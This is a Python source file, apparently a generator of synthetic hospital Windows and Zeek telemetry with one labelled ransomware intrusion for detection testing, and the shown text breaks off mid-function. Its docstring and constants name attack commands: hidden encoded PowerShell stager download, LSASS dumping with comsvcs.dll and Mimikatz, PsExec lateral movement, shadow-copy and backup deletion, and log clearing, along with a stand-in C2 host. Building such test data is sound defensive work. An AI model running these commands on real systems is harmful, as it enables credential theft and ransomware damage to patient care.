"""Synthetic endpoint and network telemetry of the hospital's Windows estate, with one
injected, labelled ransomware intrusion.

The estate: a domain controller, a file server, a PACS server, clinical workstations and
nursing-station workstations. Every day each host writes benign activity (shift logons,
explorer, the EHR client, Outlook and Word, Chrome, svchost, Defender and Windows Update,
group-policy wallpaper, nightly backups on the servers, share access), as a Windows
Event Forwarding/Winlogbeat pipeline would ship it: Security 4624/4625/4672/4688/5140/5145,
System 7045, Sysmon 1/3/10/11/13. The network sensor writes Zeek ``conn``, ``smb_mapping``
and ``smb_files`` logs of the same traffic.

On one day (the middle of the period) a nurse on a nursing-station workstation opens a
mail attachment and the intrusion runs its course:

1. phishing: ``WINWORD.EXE`` spawns ``powershell.exe -nop -w hidden -enc …`` that downloads
   a stager (T1566.001, T1204.002, T1059.001);
2. credential dumping: ``rundll32 comsvcs.dll, MiniDump`` of LSASS (Sysmon 10 access with
   ``0x1FFFFF``), then Mimikatz ``sekurlsa::logonpasswords`` (T1003.001);
3. lateral movement over SMB with the dumped administrator account: PsExec from the
   workstation to the file server and the PACS server (type-3 logons, ``\\\\*\\ADMIN$``
   and ``\\\\*\\C$`` share access, the ``PSEXESVC`` service, the payload copied to
   ``C:\\Users\\Public``, a scheduled task for the night) (T1021.002, T1569.002, T1570);
4. inhibiting recovery on both servers at night: ``vssadmin delete shadows /all /quiet``,
   ``wmic shadowcopy delete``, ``bcdedit … recoveryenabled no``, ``wbadmin delete catalog``
   and ``… systemstatebackup -keepVersions:0``, ``wevtutil cl Security`` (T1490, T1070.001);
5. encryption: files renamed with a ransomware extension, a ransom note in every folder,
   the logon legal notice and the wallpaper set to the ransom message (T1486, T1491.001).

``intrusion_truth.jsonl`` names each step on each host with its time span, its ATT&CK
techniques and the ids of its events (as ``security_event.event_uid``: host/channel/record).
Everything is deterministic per seed: the same configuration writes byte-identical files.
Names, addresses (RFC 1918 inside, RFC 5737 outside) and accounts are synthetic.
"""

from __future__ import annotations

import base64
import datetime as dt
import random
from collections import defaultdict
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import orjson

from carewarden.synth.names import pick_given, pick_surname

DOMAIN = "HOSP"
DNS_SUFFIX = "hosp.example"
C2_IP = "203.0.113.45"
C2_HOST = "cdn-update.example.net"
EHR_IP = "10.10.1.40"
INTERNET = ("142.250.72.14", "13.107.42.14", "151.101.1.69", "104.18.32.47", "52.96.166.130")
RANSOM_EXT = ".hsplock"
RANSOM_NOTE = "RESTORE-MY-FILES.txt"
RANSOM_TEXT = (
    "All files on this network have been encrypted. To get the Unlock-Password for your "
    "files, contact us at the address in RESTORE-MY-FILES.txt before paying the deadline."
)
PAYLOAD = "C:\\Users\\Public\\winupd.exe"
SECURITY = "Security"
SYSTEM = "System"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
PROVIDERS = {
    SECURITY: "Microsoft-Windows-Security-Auditing",
    SYSTEM: "Service Control Manager",
    SYSMON: "Microsoft-Windows-Sysmon",
}
STEPS: tuple[tuple[int, str, str, tuple[str, ...]], ...] = (
    (1, "phishing", "initial-access", ("T1566.001", "T1204.002", "T1059.001")),
    (2, "credential-dumping", "credential-access", ("T1003.001",)),
    (3, "lateral-movement", "lateral-movement", ("T1021.002", "T1569.002", "T1570")),
    (4, "inhibit-recovery", "impact", ("T1490", "T1070.001")),
    (5, "encryption", "impact", ("T1486", "T1491.001")),
)

# image file name -> (OriginalFileName, Description, Product, Company)
_WIN = ("Microsoft® Windows® Operating System", "Microsoft Corporation")
BINARIES: dict[str, tuple[str, str, str, str]] = {
    "explorer.exe": ("EXPLORER.EXE", "Windows Explorer", *_WIN),
    "svchost.exe": ("svchost.exe", "Host Process for Windows Services", *_WIN),
    "taskhostw.exe": ("taskhostw.exe", "Host Process for Windows Tasks", *_WIN),
    "conhost.exe": ("CONHOST.EXE", "Console Window Host", *_WIN),
    "cmd.exe": ("Cmd.Exe", "Windows Command Processor", *_WIN),
    "powershell.exe": ("PowerShell.EXE", "Windows PowerShell", *_WIN),
    "rundll32.exe": ("RUNDLL32.EXE", "Windows host process (Rundll32)", *_WIN),
    "vssadmin.exe": ("VSSADMIN.EXE", "Command Line Interface for Microsoft® Volume Shadow Copy Service ", *_WIN),  # noqa: E501
    "wmic.exe": ("wmic.exe", "WMI Commandline Utility", *_WIN),
    "bcdedit.exe": ("bcdedit.exe", "Boot Configuration Data Editor", *_WIN),
    "wbadmin.exe": ("WBADMIN.EXE", "Command Line Interface for Microsoft® BLB Backup", *_WIN),
    "wevtutil.exe": ("wevtutil.exe", "Eventing Command Line Utility", *_WIN),
    "schtasks.exe": ("schtasks.exe", "Task Scheduler Configuration Tool", *_WIN),
    "splwow64.exe": ("splwow64.exe", "Print driver host for applications", *_WIN),
    "usoclient.exe": ("UsoClient", "UsoClient", *_WIN),
    "gpupdate.exe": ("GPUpdate.exe", "Microsoft® Windows Group Policy Update Utility", *_WIN),
    "MpCmdRun.exe": ("MpCmdRun.exe", "Microsoft Malware Protection Command Line Utility",
                     "Microsoft® Windows® Operating System", "Microsoft Corporation"),
    "OUTLOOK.EXE": ("Outlook.exe", "Microsoft Outlook", "Microsoft Outlook",
                    "Microsoft Corporation"),
    "WINWORD.EXE": ("WinWord.exe", "Microsoft Word", "Microsoft Office", "Microsoft Corporation"),
    "EXCEL.EXE": ("Excel.exe", "Microsoft Excel", "Microsoft Office", "Microsoft Corporation"),
    "chrome.exe": ("chrome.exe", "Google Chrome", "Google Chrome", "Google LLC"),
    "EHRClient.exe": ("EHRClient.exe", "Clinical EHR client", "Clinical EHR", "EHR Vendor"),
    "PACSViewer.exe": ("PACSViewer.exe", "PACS diagnostic viewer", "PACS", "Imaging Vendor"),
    "pacs_server.exe": ("pacs_server.exe", "PACS archive service", "PACS", "Imaging Vendor"),
    "PsExec64.exe": ("psexec.c", "Execute processes remotely", "Sysinternals PsExec",
                     "Sysinternals - www.sysinternals.com"),
    "PSEXESVC.exe": ("psexesvc.exe", "PsExec Service", "Sysinternals PsExec",
                     "Sysinternals - www.sysinternals.com"),
    "m64.exe": ("mimikatz.exe", "mimikatz for Windows", "mimikatz", "gentilkiwi (Benjamin DELPY)"),
    "winupd.exe": ("-", "-", "-", "-"),
}
SYS32 = "C:\\Windows\\System32\\"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EHR_CLIENT = "C:\\Program Files (x86)\\ClinicalEHR\\EHRClient.exe"
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\"
LSASS = "C:\\Windows\\system32\\lsass.exe"
SYSTEM_USER = "NT AUTHORITY\\SYSTEM"


@dataclass(frozen=True)
class Host:
    name: str
    ip: str
    role: str  # dc | fileserver | pacs | clinical | nursing
    sid: str

    @property
    def fqdn(self) -> str:
        return f"{self.name}.{DNS_SUFFIX}"

    @property
    def server(self) -> bool:
        return self.role in ("dc", "fileserver", "pacs")


@dataclass(frozen=True)
class Account:
    name: str
    sid: str
    admin: bool = False

    @property
    def qualified(self) -> str:
        return f"{DOMAIN}\\{self.name}"


@dataclass(frozen=True)
class Proc:
    guid: str
    pid: int
    image: str
    command: str
    user: str


@dataclass(frozen=True)
class IntrusionConfig:
    """What to generate: ``days`` of telemetry from ``start`` (site-local dates); the
    intrusion runs on ``attack_day`` (0-based; default the middle day)."""

    seed: int = 1
    start: dt.date = dt.date(2026, 3, 2)
    days: int = 7
    site_tz: str = "America/Chicago"
    attack_day: int | None = None
    clinical_workstations: int = 4
    nursing_workstations: int = 2


@dataclass(frozen=True)
class IntrusionResult:
    """What :func:`generate_intrusion` wrote."""

    out_dir: Path
    windows_files: list[Path]
    zeek_files: list[Path]
    truth_path: Path
    events: int
    connections: int
    steps: int
    hosts: list[str]


@dataclass
class _Event:
    time: float
    seq: int
    host: Host
    channel: str
    event_id: int
    data: dict[str, str]
    step: str | None
    user_data: str | None = None  # the UserData element name, for events that use one


@dataclass
class _Conn:
    time: float
    seq: int
    src: str
    sport: int
    dst: str
    dport: int
    proto: str
    service: str | None
    duration: float
    orig_bytes: int
    resp_bytes: int
    state: str
    history: str
    smb: list[tuple[str, dict[str, Any]]] = field(default_factory=list)  # (log, fields)


def _utc(value: float) -> dt.datetime:
    return dt.datetime.fromtimestamp(value, dt.UTC)


def _iso(value: float) -> str:
    return _utc(value).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def _process_head(t: float, proc: Proc) -> dict[str, str]:
    """The fields Sysmon puts first in a process's events (1, 3, 11)."""
    return {
        "RuleName": "-",
        "UtcTime": _sysmon_time(t),
        "ProcessGuid": proc.guid,
        "ProcessId": str(proc.pid),
        "Image": proc.image,
    }


def _sysmon_time(value: float) -> str:
    return _utc(value).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]


def _encoded(script: str) -> str:
    """PowerShell's -EncodedCommand form of a script: base64 of its UTF-16LE bytes."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


class _Estate:
    """Collects events and connections; writes them sorted, with per-channel record ids."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.events: list[_Event] = []
        self.conns: list[_Conn] = []
        self.seq = 0
        self.logon_ids: dict[tuple[str, str], str] = {}
        self.sids: dict[str, str] = {}  # account name -> SID

    # identifiers -------------------------------------------------------------------------
    def guid(self) -> str:
        r = self.rng
        return (
            f"{{{r.getrandbits(32):08x}-{r.getrandbits(16):04x}-{r.getrandbits(16):04x}-"
            f"{r.getrandbits(16):04x}-{r.getrandbits(48):012x}}}"
        )

    def pid(self) -> int:
        return self.rng.randrange(100, 4000) * 4

    def logon_id(self, host: Host, user: str) -> str:
        key = (host.name, user)
        if key not in self.logon_ids:
            self.logon_ids[key] = f"0x{self.rng.randrange(0x10000, 0xFFFFFF):x}"
        return self.logon_ids[key]

    def port(self) -> int:
        return self.rng.randrange(49152, 65535)

    # events ------------------------------------------------------------------------------
    def add(
        self,
        t: float,
        host: Host,
        channel: str,
        event_id: int,
        data: dict[str, str],
        step: str | None = None,
        user_data: str | None = None,
    ) -> None:
        self.seq += 1
        self.events.append(_Event(t, self.seq, host, channel, event_id, data, step, user_data))

    def process(
        self,
        t: float,
        host: Host,
        image: str,
        command: str,
        parent: Proc | None,
        user: str,
        *,
        integrity: str = "Medium",
        step: str | None = None,
        directory: str = "C:\\Windows\\system32\\",
    ) -> Proc:
        """Sysmon 1 and Security 4688 for one process creation."""
        name = image.rsplit("\\", 1)[-1]
        original, description, product, company = BINARIES.get(name, ("-", "-", "-", "-"))
        proc = Proc(self.guid(), self.pid(), image, command, user)
        parent = parent or Proc("{00000000-0000-0000-0000-000000000000}", 4, "System", "", "")
        account = user.rsplit("\\", 1)[-1]
        logon = "0x3e7" if user == SYSTEM_USER else self.logon_id(host, account)
        self.add(
            t,
            host,
            SYSMON,
            1,
            {
                **_process_head(t, proc),
                "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)" if company else "-",
                "Description": description,
                "Product": product,
                "Company": company,
                "OriginalFileName": original,
                "CommandLine": command,
                "CurrentDirectory": directory,
                "User": user,
                "LogonGuid": self.guid(),
                "LogonId": logon,
                "TerminalSessionId": "0" if user == SYSTEM_USER else "1",
                "IntegrityLevel": "System" if user == SYSTEM_USER else integrity,
                "Hashes": f"SHA256={self.rng.getrandbits(256):064X}",
                "ParentProcessGuid": parent.guid,
                "ParentProcessId": str(parent.pid),
                "ParentImage": parent.image,
                "ParentCommandLine": parent.command,
                "ParentUser": parent.user or SYSTEM_USER,
            },
            step,
        )
        domain, _, name_only = user.rpartition("\\")
        self.add(
            t,
            host,
            SECURITY,
            4688,
            {
                "SubjectUserSid": "S-1-5-18"
                if user == SYSTEM_USER
                else self.sids.get(name_only, f"{host.sid}-500"),
                "SubjectUserName": name_only,
                "SubjectDomainName": domain,
                "SubjectLogonId": logon,
                "NewProcessId": hex(proc.pid),
                "NewProcessName": image,
                "TokenElevationType": "%%1936" if integrity == "High" else "%%1938",
                "ProcessId": hex(parent.pid),
                "CommandLine": command,
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": "-",
                "TargetDomainName": "-",
                "TargetLogonId": "0x0",
                "ParentProcessName": parent.image,
                "MandatoryLabel": "S-1-16-16384"
                if user == SYSTEM_USER
                else ("S-1-16-12288" if integrity == "High" else "S-1-16-8192"),
            },
            step,
        )
        return proc

    def network(
        self,
        t: float,
        host: Host,
        proc: Proc,
        dst: str,
        dport: int,
        step: str | None = None,
        dst_name: str = "-",
    ) -> None:
        sport = self.port()
        self.add(
            t,
            host,
            SYSMON,
            3,
            {
                **_process_head(t, proc),
                "User": proc.user,
                "Protocol": "tcp",
                "Initiated": "true",
                "SourceIsIpv6": "false",
                "SourceIp": host.ip,
                "SourceHostname": host.fqdn,
                "SourcePort": str(sport),
                "DestinationIsIpv6": "false",
                "DestinationIp": dst,
                "DestinationHostname": dst_name,
                "DestinationPort": str(dport),
            },
            step,
        )

    def file(self, t: float, host: Host, proc: Proc, path: str, step: str | None = None) -> None:
        self.add(
            t,
            host,
            SYSMON,
            11,
            {
                **_process_head(t, proc),
                "TargetFilename": path,
                "CreationUtcTime": _sysmon_time(t),
                "User": proc.user,
            },
            step,
        )

    def registry(
        self, t: float, host: Host, proc: Proc, key: str, details: str, step: str | None = None
    ) -> None:
        self.add(
            t,
            host,
            SYSMON,
            13,
            {
                "RuleName": "-",
                "EventType": "SetValue",
                "UtcTime": _sysmon_time(t),
                "ProcessGuid": proc.guid,
                "ProcessId": str(proc.pid),
                "Image": proc.image,
                "TargetObject": key,
                "Details": details,
                "User": proc.user,
            },
            step,
        )

    def access(
        self,
        t: float,
        host: Host,
        proc: Proc,
        granted: str,
        trace: str,
        step: str | None = None,
    ) -> None:
        """Sysmon 10: ``proc`` opens LSASS."""
        self.add(
            t,
            host,
            SYSMON,
            10,
            {
                "RuleName": "-",
                "UtcTime": _sysmon_time(t),
                "SourceProcessGUID": proc.guid,
                "SourceProcessId": str(proc.pid),
                "SourceThreadId": str(self.rng.randrange(1000, 20000)),
                "SourceImage": proc.image,
                "TargetProcessGUID": "{4f1c0b5e-7d21-65e4-0c00-000000000f00}",
                "TargetProcessId": "652",
                "TargetImage": LSASS,
                "GrantedAccess": granted,
                "CallTrace": trace,
                "SourceUser": proc.user,
                "TargetUser": SYSTEM_USER,
            },
            step,
        )

    def logon(
        self,
        t: float,
        host: Host,
        account: Account,
        logon_type: int,
        source: Host | None = None,
        step: str | None = None,
        package: str = "Kerberos",
    ) -> None:
        """4624 (and 4672 for an administrator). Types 2, 5, 7 and 11 are local (the
        computer account is the subject), 3 and 10 come from ``source``."""
        logon_id = self.logon_id(host, account.name)
        local = logon_type in (2, 5, 7, 11)
        process = "Advapi  " if logon_type == 5 else "User32 "
        self.add(
            t,
            host,
            SECURITY,
            4624,
            {
                "SubjectUserSid": "S-1-5-18" if local else "S-1-0-0",
                "SubjectUserName": f"{host.name}$" if local else "-",
                "SubjectDomainName": DOMAIN if local else "-",
                "SubjectLogonId": "0x3e7" if local else "0x0",
                "TargetUserSid": account.sid,
                "TargetUserName": account.name,
                "TargetDomainName": DOMAIN,
                "TargetLogonId": logon_id,
                "LogonType": str(logon_type),
                "LogonProcessName": process if local else package,
                "AuthenticationPackageName": "Negotiate" if local else package,
                "WorkstationName": source.name if source else host.name,
                "LogonGuid": self.guid(),
                "TransmittedServices": "-",
                "LmPackageName": "NTLM V2" if package == "NTLM" else "-",
                "KeyLength": "128" if package == "NTLM" else "0",
                "ProcessId": ("0x26c" if logon_type == 5 else "0x2a8") if local else "0x0",
                "ProcessName": (
                    f"{SYS32}services.exe" if logon_type == 5 else f"{SYS32}svchost.exe"
                )
                if local
                else "-",
                "IpAddress": source.ip if source else "127.0.0.1",
                "IpPort": str(self.port()) if source else "0",
                "ImpersonationLevel": "%%1833",
                "ElevatedToken": "%%1842" if account.admin else "%%1843",
            },
            step,
        )
        if account.admin:
            self.add(
                t,
                host,
                SECURITY,
                4672,
                {
                    "SubjectUserSid": account.sid,
                    "SubjectUserName": account.name,
                    "SubjectDomainName": DOMAIN,
                    "SubjectLogonId": logon_id,
                    "PrivilegeList": "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\t"
                    "SeRestorePrivilege\n\t\t\tSeTakeOwnershipPrivilege\n\t\t\t"
                    "SeDebugPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n\t\t\t"
                    "SeLoadDriverPrivilege\n\t\t\tSeImpersonatePrivilege",
                },
                step,
            )

    def failed_logon(self, t: float, host: Host, account: Account) -> None:
        self.add(
            t,
            host,
            SECURITY,
            4625,
            {
                "SubjectUserSid": "S-1-5-18",
                "SubjectUserName": f"{host.name}$",
                "SubjectDomainName": DOMAIN,
                "SubjectLogonId": "0x3e7",
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": account.name,
                "TargetDomainName": DOMAIN,
                "Status": "0xc000006d",
                "FailureReason": "%%2313",
                "SubStatus": "0xc000006a",
                "LogonType": "2",
                "LogonProcessName": "User32 ",
                "AuthenticationPackageName": "Negotiate",
                "WorkstationName": host.name,
                "TransmittedServices": "-",
                "LmPackageName": "-",
                "KeyLength": "0",
                "ProcessId": "0x2a8",
                "ProcessName": f"{SYS32}svchost.exe",
                "IpAddress": "127.0.0.1",
                "IpPort": "0",
            },
        )

    def share(
        self,
        t: float,
        host: Host,
        account: Account,
        source: Host,
        share: str,
        local: str,
        target: str | None = None,
        mask: str = "0x1",
        step: str | None = None,
    ) -> None:
        """5140 (share opened) or, with ``target``, 5145 (object in the share checked)."""
        data = {
            "SubjectUserSid": account.sid,
            "SubjectUserName": account.name,
            "SubjectDomainName": DOMAIN,
            "SubjectLogonId": self.logon_id(host, account.name),
            "ObjectType": "File",
            "IpAddress": source.ip,
            "IpPort": str(self.port()),
            "ShareName": f"\\\\*\\{share}",
            "ShareLocalPath": local,
        }
        if target is not None:
            data["RelativeTargetName"] = target
        data["AccessMask"] = mask
        data["AccessList"] = "%%4417\n\t\t\t\t" if mask == "0x2" else "%%4416\n\t\t\t\t"
        if target is not None:
            data["AccessReason"] = "-"
        self.add(t, host, SECURITY, 5145 if target is not None else 5140, data, step)

    def service(
        self, t: float, host: Host, name: str, path: str, step: str | None = None
    ) -> None:
        self.add(
            t,
            host,
            SYSTEM,
            7045,
            {
                "ServiceName": name,
                "ImagePath": path,
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            step,
        )

    # network -----------------------------------------------------------------------------
    def conn(
        self,
        t: float,
        src: str,
        dst: str,
        dport: int,
        *,
        service: str | None,
        proto: str = "tcp",
        sent: int = 800,
        received: int = 4000,
        duration: float = 0.4,
    ) -> _Conn:
        self.seq += 1
        conn = _Conn(
            t,
            self.seq,
            src,
            self.port(),
            dst,
            dport,
            proto,
            service,
            duration,
            sent,
            received,
            "SF",
            "ShADadFf" if proto == "tcp" else "Dd",
        )
        self.conns.append(conn)
        return conn


# -------------------------------------------------------------------------------------------
# the estate


@dataclass
class _World:
    dc: Host
    fs: Host
    pacs: Host
    clinical: list[Host]
    nursing: list[Host]
    users: dict[str, list[Account]]  # workstation name -> its users
    admin: Account
    backup: Account
    pacs_service: Account

    @property
    def hosts(self) -> list[Host]:
        return [self.dc, self.fs, self.pacs, *self.clinical, *self.nursing]

    @property
    def workstations(self) -> list[Host]:
        return [*self.clinical, *self.nursing]


def _account(rng: random.Random, sid: str, used: set[str], admin: bool = False) -> Account:
    while True:
        given = pick_given(rng, rng.choice("FM"))
        name = f"{given[0]}{pick_surname(rng)}".lower().replace(" ", "").replace("'", "")
        if admin:
            name = "adm." + name
        if name not in used:
            used.add(name)
            return Account(name, f"{sid}-{1100 + len(used)}", admin)


def _world(config: IntrusionConfig, rng: random.Random) -> _World:
    sid = f"S-1-5-21-{rng.randrange(10**9, 4 * 10**9)}-{rng.randrange(10**9, 4 * 10**9)}-" \
        f"{rng.randrange(10**9, 4 * 10**9)}"
    used: set[str] = set()
    dc = Host("DC01", "10.10.1.10", "dc", sid)
    fs = Host("FS01", "10.10.1.20", "fileserver", sid)
    pacs = Host("PACS01", "10.10.1.30", "pacs", sid)
    clinical = [
        Host(f"CLIN-WS-{i + 1:02d}", f"10.10.20.{11 + i}", "clinical", sid)
        for i in range(config.clinical_workstations)
    ]
    nursing = [
        Host(f"NURS-WS-{i + 1:02d}", f"10.10.30.{21 + i}", "nursing", sid)
        for i in range(config.nursing_workstations)
    ]
    users = {h.name: [_account(rng, sid, used) for _ in range(3)] for h in (*clinical, *nursing)}
    admin = _account(rng, sid, used, admin=True)
    return _World(
        dc,
        fs,
        pacs,
        clinical,
        nursing,
        users,
        admin,
        Account("svc_backup", f"{sid}-1090", admin=True),
        Account("svc_pacs", f"{sid}-1091"),
    )


# -------------------------------------------------------------------------------------------
# benign activity


def _local(tz: ZoneInfo, day: dt.date, seconds: float) -> float:
    wall = dt.datetime(day.year, day.month, day.day, tzinfo=tz) + dt.timedelta(seconds=seconds)
    return wall.astimezone(dt.UTC).timestamp()


def _boot(e: _Estate, t: float, host: Host) -> dict[str, Proc]:
    """The long-running processes of a host, started at ``t``."""
    wininit = Proc(e.guid(), e.pid(), f"{SYS32}wininit.exe", "wininit.exe", SYSTEM_USER)
    services = e.process(
        t, host, f"{SYS32}services.exe", f"{SYS32}services.exe", wininit, SYSTEM_USER
    )
    procs = {"services": services}
    procs["svchost"] = e.process(
        t + 1, host, f"{SYS32}svchost.exe", f"{SYS32}svchost.exe -k netsvcs -p -s Schedule",
        services, SYSTEM_USER,
    )
    procs["defender"] = e.process(
        t + 2, host, f"{DEFENDER}MsMpEng.exe", f'"{DEFENDER}MsMpEng.exe"', services, SYSTEM_USER
    )
    return procs


def _workstation_day(
    e: _Estate, w: _World, host: Host, day: dt.date, tz: ZoneInfo, first: bool
) -> dict[str, Proc]:
    rng = e.rng
    procs = _boot(e, _local(tz, day, 5 * 3600 + rng.randrange(600)), host)
    svchost, defender = procs["svchost"], procs["defender"]
    # Defender's routine LSASS access (filtered by every rule of the pack).
    e.access(
        _local(tz, day, 5 * 3600 + 900), host, defender, "0x1010",
        f"C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|{DEFENDER}MpSvc.dll+1a2b3",
    )
    e.process(
        _local(tz, day, 6 * 3600 + rng.randrange(1800)), host, f"{DEFENDER}MpCmdRun.exe",
        f'"{DEFENDER}MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges',
        svchost, SYSTEM_USER,
    )
    e.process(
        _local(tz, day, 6 * 3600 + 2000 + rng.randrange(1800)), host, f"{SYS32}usoclient.exe",
        f"{SYS32}usoclient.exe StartScan", svchost, SYSTEM_USER,
    )
    e.process(
        _local(tz, day, 6 * 3600 + 4000), host, f"{SYS32}gpupdate.exe",
        "gpupdate.exe /target:computer", svchost, SYSTEM_USER,
    )
    shifts = ((7 * 3600, 19 * 3600), (19 * 3600, 31 * 3600))
    users = w.users[host.name]
    for index, (begin, end) in enumerate(shifts):
        user = users[(index + day.toordinal()) % len(users)]
        who = user.qualified
        t0 = _local(tz, day, begin + rng.randrange(-900, 900))
        if rng.random() < 0.15:
            e.failed_logon(t0 - 20, host, user)
        e.logon(t0, host, user, 2)
        explorer = e.process(
            t0 + 3, host, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", None, who,
            directory="C:\\Windows\\",
        )
        # the hospital's wallpaper policy, applied by the group-policy client (svchost)
        e.registry(
            t0 + 4, host, svchost,
            f"HKU\\{user.sid}\\Control Panel\\Desktop\\Wallpaper",
            "\\\\hosp.example\\NETLOGON\\wallpaper\\hospital.jpg",
        )
        ehr = e.process(
            t0 + 40, host, EHR_CLIENT, f'"{EHR_CLIENT}" /env=PROD', explorer, who,
            directory="C:\\Program Files (x86)\\ClinicalEHR\\",
        )
        outlook = e.process(
            t0 + 60, host, f"{OFFICE}OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE" ', explorer, who,
            directory=f"{OFFICE}",
        )
        chrome = e.process(
            t0 + 90, host, CHROME, f'"{CHROME}" ', explorer, who,
            directory="C:\\Program Files\\Google\\Chrome\\Application\\",
        )
        span = (end - begin) - 1800
        for _ in range(rng.randrange(6, 12)):
            t = t0 + 120 + rng.randrange(span)
            e.network(t, host, ehr, EHR_IP, 443, dst_name=f"ehr.{DNS_SUFFIX}")
            e.conn(t, host.ip, EHR_IP, 443, service="ssl", sent=rng.randrange(2000, 9000),
                   received=rng.randrange(20000, 400000), duration=rng.uniform(1, 30))
        for _ in range(rng.randrange(3, 7)):
            t = t0 + 120 + rng.randrange(span)
            dst = rng.choice(INTERNET)
            e.network(t, host, chrome, dst, 443)
            e.conn(t, host.ip, dst, 443, service="ssl", sent=rng.randrange(1000, 5000),
                   received=rng.randrange(5000, 900000), duration=rng.uniform(0.5, 20))
            e.process(
                t + 1, host, CHROME,
                f'"{CHROME}" --type=renderer --lang=en-US '
                f"--renderer-client-id={rng.randrange(5, 90)}",
                chrome, who,
            )
        if rng.random() < 0.6:  # a handover document opened from mail
            t = t0 + 300 + rng.randrange(span)
            folder = f"C:\\Users\\{user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache" \
                f"\\Content.Outlook\\{rng.getrandbits(32):08X}\\"
            doc = f"{folder}Shift handover {day:%m-%d}.docx"
            e.file(t, host, outlook, doc)
            word = e.process(
                t + 2, host, f"{OFFICE}WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n "{doc}" /o ""',
                outlook, who, directory=folder,
            )
            if rng.random() < 0.5:
                e.process(
                    t + 200, host, f"{SYS32}splwow64.exe", f"{SYS32}splwow64.exe 12288", word,
                    who,
                )
        # file share, SYSVOL and Kerberos traffic
        for _ in range(rng.randrange(1, 4)):
            t = t0 + 200 + rng.randrange(span)
            _share_visit(e, w, host, user, t)
        for _ in range(rng.randrange(3, 6)):
            t = t0 + rng.randrange(span)
            e.conn(t, host.ip, w.dc.ip, 88, service="krb_tcp", sent=1500, received=1400)
            e.conn(t + 0.1, host.ip, w.dc.ip, 53, service="dns", proto="udp", sent=60,
                   received=120, duration=0.01)
    if first or rng.random() < 0.1:
        e.service(
            _local(tz, day, 4 * 3600 + rng.randrange(3600)), host,
            "GoogleChromeElevationService",
            '"C:\\Program Files\\Google\\Chrome\\Application\\122.0.6261.112\\'
            'elevation_service.exe"',
        )
    return procs


def _share_visit(e: _Estate, w: _World, host: Host, user: Account, t: float) -> None:
    rng = e.rng
    folder = rng.choice(("Nursing", "Quality", "Pharmacy", "Scheduling"))
    target = f"{folder}\\{rng.choice(('roster', 'handover', 'census', 'audit'))}_" \
        f"{rng.randrange(1, 30):02d}.xlsx"
    e.logon(t, w.fs, user, 3, source=host)
    e.share(t + 0.2, w.fs, user, host, "Shared", "\\??\\D:\\Shares")
    write = rng.random() < 0.3
    e.share(t + 0.4, w.fs, user, host, "Shared", "\\??\\D:\\Shares", target,
            "0x2" if write else "0x1")
    conn = e.conn(t, host.ip, w.fs.ip, 445, service="smb,gssapi", sent=rng.randrange(3000, 90000),
                  received=rng.randrange(5000, 400000), duration=rng.uniform(1, 60))
    conn.smb.append(("smb_mapping", {"path": f"\\\\{w.fs.name}\\Shared", "service": "DISK",
                                     "native_file_system": "NTFS", "share_type": "DISK"}))
    conn.smb.append(("smb_files", {"action": "SMB::FILE_WRITE" if write else "SMB::FILE_OPEN",
                                   "path": f"\\\\{w.fs.name}\\Shared", "name": target,
                                   "size": rng.randrange(20000, 900000)}))


def _server_day(e: _Estate, w: _World, host: Host, day: dt.date, tz: ZoneInfo, first: bool) -> None:
    rng = e.rng
    procs = _boot(e, _local(tz, day, 3 * 3600 + rng.randrange(600)), host)
    svchost, defender = procs["svchost"], procs["defender"]
    e.access(
        _local(tz, day, 3 * 3600 + 700), host, svchost, "0x1410",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e",
    )
    e.access(
        _local(tz, day, 3 * 3600 + 800), host, defender, "0x1010",
        f"C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|{DEFENDER}MpSvc.dll+1a2b3",
    )
    t = _local(tz, day, 3 * 3600 + 900)  # the server's own Kerberos ticket renewal
    e.network(t, host, svchost, w.dc.ip, 88, dst_name=w.dc.fqdn)
    e.conn(t, host.ip, w.dc.ip, 88, service="krb_tcp", sent=1500, received=1400)
    if host.role == "fileserver":
        # the nightly backup: Windows Server Backup, then pruning to 14 versions
        t = _local(tz, day, 1 * 3600 + rng.randrange(600))
        e.logon(t, host, w.backup, 5)
        task = e.process(t + 1, host, f"{SYS32}taskhostw.exe", "taskhostw.exe", svchost,
                         f"{DOMAIN}\\svc_backup")
        e.process(
            t + 2, host, f"{SYS32}wbadmin.exe",
            "wbadmin.exe start backup -backupTarget:\\\\NAS01\\backups -include:D: -vssFull -quiet",
            task, f"{DOMAIN}\\svc_backup", integrity="High",
        )
        e.process(
            t + 1800, host, f"{SYS32}wbadmin.exe",
            "wbadmin.exe delete backup -keepVersions:14 -quiet", task, f"{DOMAIN}\\svc_backup",
            integrity="High",
        )
        e.conn(t + 5, host.ip, "10.10.1.50", 445, service="smb", sent=rng.randrange(10**8, 10**9),
               received=200000, duration=1700.0)
    if host.role == "pacs":
        server = e.process(
            _local(tz, day, 3 * 3600 + 30), host, "C:\\Program Files\\PACS\\pacs_server.exe",
            '"C:\\Program Files\\PACS\\pacs_server.exe" --service', procs["services"],
            f"{DOMAIN}\\svc_pacs",
        )
        for _ in range(rng.randrange(20, 40)):
            t = _local(tz, day, rng.randrange(86400))
            src = rng.choice(w.clinical)
